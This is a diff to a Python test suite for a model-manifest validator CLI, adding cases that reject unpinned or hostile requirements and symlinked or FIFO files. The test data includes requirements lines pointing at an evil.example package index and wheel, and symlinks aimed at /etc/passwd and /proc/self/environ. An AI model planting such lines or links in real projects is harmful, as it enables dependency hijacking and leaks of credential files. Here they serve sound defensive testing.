@@ -3,12 +3,14 @@
 from __future__ import annotations
 
 import json
+import os
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 
 from tests.conftest import run_cli
+from tests.scan.conftest import SAFETY_DB
 
 IRIS = "models/iris/model.yaml"
 
@@ -35,6 +37,28 @@ def write(text: str, file: str = IRIS) -> Callable[[Path], None]:
 def symlink_escape(repo: Path) -> None:
     (repo / "models/iris/artifacts/outside").symlink_to("/etc")
     sub("uri: artifacts/1.0.0/", "uri: artifacts/outside/")(repo)
+
+
+def symlink(file: str, target: str) -> Callable[[Path], None]:
+    """An edit replacing `file` by a symbolic link to `target`."""
+
+    def edit(repo: Path) -> None:
+        (repo / file).unlink()
+        (repo / file).symlink_to(target)
+
+    return edit
+
+
+def fifo(repo: Path) -> None:
+    (repo / "models/iris/requirements.txt").unlink()
+    os.mkfifo(repo / "models/iris/requirements.txt")
+
+
+REQS = "models/iris/requirements.txt"
+
+
+def requirement(line: str) -> Callable[[Path], None]:
+    return write(f"numpy==2.0.0\n{line}\n", REQS)
 
 
 BOMB = "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: [*b, *b, *b, *b, *b]\n"
@@ -84,6 +108,23 @@ CASES = [
      "models/iris/requirements.txt", 1, "requirements", "not pinned with =="),
     ("requirement-url", write("numpy==2.0.0\nhttps://evil.example/pkg.whl\n", "models/iris/requirements.txt"),
      "models/iris/requirements.txt", 2, "requirements", "not pinned with =="),
+    ("requirement-bad-marker", requirement("numpy==2.0.0; garbage !!"), REQS, 2, "requirements", "not pinned"),
+    ("requirement-option-after-marker",
+     requirement('numpy==2.0.0; python_version >= "3" --index-url https://evil.example/simple'), REQS, 2,
+     "requirements", "not pinned"),
+    ("requirement-include", requirement("-r other.txt"), REQS, 2, "requirements", "not pinned"),
+    ("requirement-editable", requirement("-e ."), REQS, 2, "requirements", "not pinned"),
+    ("requirement-at-url", requirement("numpy @ https://evil.example/numpy.whl"), REQS, 2, "requirements",
+     "not pinned"),
+    ("requirement-wildcard", requirement("numpy==2.*"), REQS, 2, "requirements", "not pinned"),
+    ("requirement-two-specifiers", requirement("numpy==2.0.0,>=1"), REQS, 2, "requirements", "not pinned"),
+    ("requirements-symlink", symlink(REQS, "/etc/passwd"), IRIS, 15, "requirements",
+     "requirements.txt is a symbolic link"),
+    ("requirements-symlink-inside", symlink(REQS, "example.json"), IRIS, 15, "requirements",
+     "requirements.txt is a symbolic link"),
+    ("requirements-fifo", fifo, IRIS, 15, "requirements", "requirements.txt is not a regular file"),
+    ("example-symlink", symlink("models/iris/example.json", "/proc/self/environ"), IRIS, 14, "example",
+     "example.json is a symbolic link"),
     ("requirements-missing", sub("requirements: requirements.txt", "requirements: reqs.txt"), IRIS, 15,
      "requirements", "does not exist"),
     ("example-missing", sub("example: example.json", "example: sample.json"), IRIS, 14, "example",
@@ -126,6 +167,7 @@ def test_bad_manifest_is_reported_precisely(repo: Path, edit, file: str, line: i
     if field:
         assert f" {field}: " in result.err, result.err
     assert not (repo / "pwned").exists()
+    assert "root:x:0" not in result.err + result.out
 
 
 def test_every_problem_is_reported_at_once_in_json(repo: Path) -> None:
@@ -155,3 +197,26 @@ def test_github_format_gives_workflow_annotations(repo: Path) -> None:
 def test_the_examples_are_valid(repo: Path) -> None:
     result = run_cli("validate", "--offline", cwd=repo)
     assert (result.code, result.out.strip()) == (0, "2 model(s) valid")
+
+
+def test_pins_with_extras_markers_and_comments_are_valid(repo: Path) -> None:
+    with (repo / REQS).open("a") as handle:
+        handle.write('# a comment\n\nnumpy[extra]==2.0.0 ; python_version >= "3.9"  # why\n')
+    result = run_cli("validate", "--offline", "models/iris", cwd=repo)
+    assert result.code == 0, result.err
+
+
+def test_a_rejected_requirement_is_echoed_short(repo: Path) -> None:
+    requirement("x" * 30 + "SECRET" * 100)(repo)
+    result = run_cli("validate", "--offline", "models/iris", cwd=repo)
+    assert result.code == 1
+    assert "xxxxxxxxxxSECRET" in result.err and result.err.count("SECRET") < 5, result.err
+
+
+@pytest.mark.parametrize("command", [("render", "models/iris"), ("scan", "--db", str(SAFETY_DB), "models/iris")])
+def test_every_reader_of_the_requirements_refuses_a_symlink(repo: Path, command: tuple[str, ...]) -> None:
+    symlink(REQS, "/etc/passwd")(repo)
+    result = run_cli(*command, cwd=repo)
+    assert result.code == 1
+    assert "requirements.txt is a symbolic link" in result.err + result.out, result.err + result.out
+    assert "root:x:0" not in result.err + result.out
